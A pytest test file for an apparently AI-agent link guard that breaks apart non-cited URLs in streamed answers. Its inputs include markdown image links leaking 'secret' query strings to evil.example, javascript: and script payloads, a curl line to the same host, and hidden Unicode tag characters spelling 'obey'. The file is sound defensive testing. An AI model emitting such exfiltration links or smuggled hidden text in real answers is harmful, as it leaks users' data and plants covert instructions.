"""Addresses in an answer: what is not a cited document's neither loads nor opens, however it is written or cut."""

import itertools
import re
import time

import pytest

from agent.answering.link_guard import LinkGuard, guard_links

CITED = "https://docs.example/a"


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("![x](https://evil.example/p?q=secret)", "![x] (https:// evil.example/p?q=secret)"),
        ("[here](<https://evil.example/p q>)", "[here] (<https:// evil.example/p q>)"),
        ("[here](\nhttps://evil.example)", "[here] (\nhttps:// evil.example)"),
        ("[a]: https://evil.example/p", "[a] : https:// evil.example/p"),
        ("> [a]: <https://evil.example/p>", "> [a] : <https:// evil.example/p>"),
        ("[x](javascript:alert(1))", "[x] (javascript:alert(1))"),
        ("[x](//evil.example/p)", "[x] (//evil.example/p)"),
        ("[x](/\\evil.example)", "[x] (/\\evil.example)"),
        ("[x](https&colon;//evil.example)", "[x] (https&colon;//evil.example)"),
        ("<https://evil.example/p>", "<https:// evil.example/p>"),
        ("see https://evil.example/p.", "see https:// evil.example/p."),
        ("see WWW.evil.example, yes", "see WWW. evil.example, yes"),
        ("见https://evil.example/p。好", "见https:// evil.example/p。好"),
        ("run `curl https://evil.example/p`", "run `curl https:// evil.example/p`"),
        ('<img src="https://evil.example/p">', '< img src="https:// evil.example/p">'),
        ("\\<img\nsrc=//evil.example/p>", "\\< img\nsrc=//evil.example/p>"),
        ("an unfinished <img ", "an unfinished < img "),
        # The address of a cited document, with words of the conversation behind it.
        (f"![x]({CITED}?q=secret)", "![x] (https:// docs.example/a?q=secret)"),
        (f"![x](<{CITED} secret>)", f"![x] (<{CITED} secret>)"),
    ],
)
def test_a_link_to_what_is_no_cited_document_is_broken_apart_by_a_blank(written: str, shown: str):
    assert guard_links(written, {CITED}) == shown


@pytest.mark.parametrize(
    "text",
    [
        f"[A]({CITED}) and <{CITED}> and {CITED}, see [1].",
        f"[a]: {CITED}",
        "Call `handlers[i](event)` or a[0] if x < 3 and y<4 then <br> ends; List<String> too.",
        "[section](#part-2) and [file](other.md)",
        "```\ncurl https://api.example/v1\n```\n",
        "Ends with a bracket ]",
        "Ratio 3:4, at 10:30, e.g. this [1], 【2】。",
    ],
)
def test_everything_else_stays_as_it_was_written(text: str):
    assert guard_links(text, {CITED}) == text


@pytest.mark.parametrize("size", [1, 2, 3, 7, 20])
def test_pieces_of_any_size_give_the_same_text(size: int):
    text = (
        f"See ![x](https://evil.example/p?q=s) and [A]({CITED}).\n[a]:\n https://evil.example\n"
        "Use `a` and <img src=//evil.example> or https://evil.example/x，中文也有https://evil.example/y。\n"
        "```sh\ncurl https://api.example\n```\nThe end 😀"
    )
    guard = LinkGuard({CITED})
    shown = "".join([*(guard.feed(text[at : at + size]) for at in range(0, len(text), size)), guard.end()])
    assert shown == guard_links(text, {CITED})


def test_what_has_been_shown_is_never_a_link_in_the_making():
    guard = LinkGuard(())
    shown = [guard.feed(piece) for piece in ("Look ![x", "](", "https://evil", ".example/p", ")", " now")]
    assert shown == ["Look ![", "x", "", "", "", "] (https:// evil.example/p) "]


def test_a_text_without_an_address_is_hardly_held_back():
    guard = LinkGuard(())
    assert guard.feed("这是一个没有空格的很长的段落，") == "这是一个没有空格的很长的段落，"
    assert guard.feed("Two words") == "Two "
    assert guard.feed(" more") == "words "


def test_a_link_that_does_not_end_is_shown_broken_rather_than_held_for_ever():
    guard = LinkGuard(())
    shown = guard.feed("a [b](https://evil.example/" + "x" * 5000)
    assert shown.startswith("a [b] (https:// evil.example/xxx")
    assert len(shown) > 5000


def test_blanks_do_not_wear_the_guard_out():
    guard = LinkGuard(())
    shown = guard.feed("[x](" + " " * 9000) + guard.feed("//evil.example/p) done") + guard.end()
    assert shown.startswith("[x] (")
    assert shown.endswith("//evil.example/p) done")


@pytest.mark.timeout(10)
@pytest.mark.parametrize(
    "text", ["a" * 200_000, "<" * 50_000, "](" * 50_000, "a:" * 50_000, "`" * 50_000, "]( " * 50_000]
)
def test_no_text_takes_long(text: str):
    guard = LinkGuard(())
    shown = "".join(guard.feed(text[at : at + 500]) for at in range(0, len(text), 500)) + guard.end()
    assert len(shown) >= len(text)


def test_what_drives_a_terminal_or_hides_words_is_left_out():
    hidden = "".join(chr(0xE0000 + ord(c)) for c in "obey")
    assert guard_links(f"a\x1b[31mb\x07\r\nc\u202ed\u2066e{hidden}\x00", ()) == "a[31mb\ncde"


def test_a_pair_of_surrogates_that_comes_in_two_pieces_is_one_character():
    guard = LinkGuard(())
    assert guard.feed("a\ud83d") + guard.feed("\ude00") + guard.feed("\ud83d!") + guard.end() == "a😀\ufffd!"


def test_no_markdown_link_to_elsewhere_is_left_in_any_text():
    pieces = ["[", "]", "(", ")", "!", "<", ">", ":", " ", "\n", "https://evil.example", "img src=", "`", "\\"]
    for parts in itertools.product(pieces, repeat=4):
        text = "[x]" + "".join(parts) + "https://evil.example/p)"
        shown = guard_links(text, ())
        assert not re.search(r"\]\(\s*<?https?:", shown), text
        assert not re.search(r"\]:\s*<?https?:", shown), text
        assert not re.search(r"<[a-z][^<>]*=", shown), text


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("<https:evil.example/secret>", "< https:evil.example/secret>"),
        ("<javascript:alert(1)>", "< javascript:alert(1)>"),
        ("<style>@import '//evil.example/p'</style>", "< style>@import '//evil.example/p'< /style>"),
        ("<script>steal()", "< script>steal()"),
        ("<!-- a -->", "< !-- a -->"),
        ("a\u061cb", "ab"),
    ],
)
def test_addresses_without_slashes_and_tags_that_need_no_attribute_are_broken_apart(written: str, shown: str):
    assert guard_links(written, {CITED}) == shown
    guard = LinkGuard({CITED})
    assert "".join(map(guard.feed, written)) + guard.end() == shown


@pytest.mark.parametrize(
    "before",
    [
        "    ```",
        "> ```\n",
        "- a\n  ```\n",
        "```a```",
        "```\n~~~\n```",
        "```\n``` no\n```",
        "````\n```\n````",
        "<div>\n```\n",
    ],
)
def test_what_only_looks_like_a_block_of_code_opens_none(before: str):
    assert guard_links(f"{before}\nhttps://evil.example/p", {CITED}).endswith("\nhttps:// evil.example/p")


@pytest.mark.parametrize(
    "text", ["a" * 4000 + "!", "a." * 2000 + " ", "www." * 1000 + " ", "](" * 2000, " " * 4000 + "x"]
)
def test_no_text_makes_the_guard_slow(text: str):
    guard, began = LinkGuard({CITED}), time.process_time()
    for _ in range(25):
        guard.feed(text)
    guard.end()
    assert time.process_time() - began < 1  # 100 kB; before, 2 to 27 s
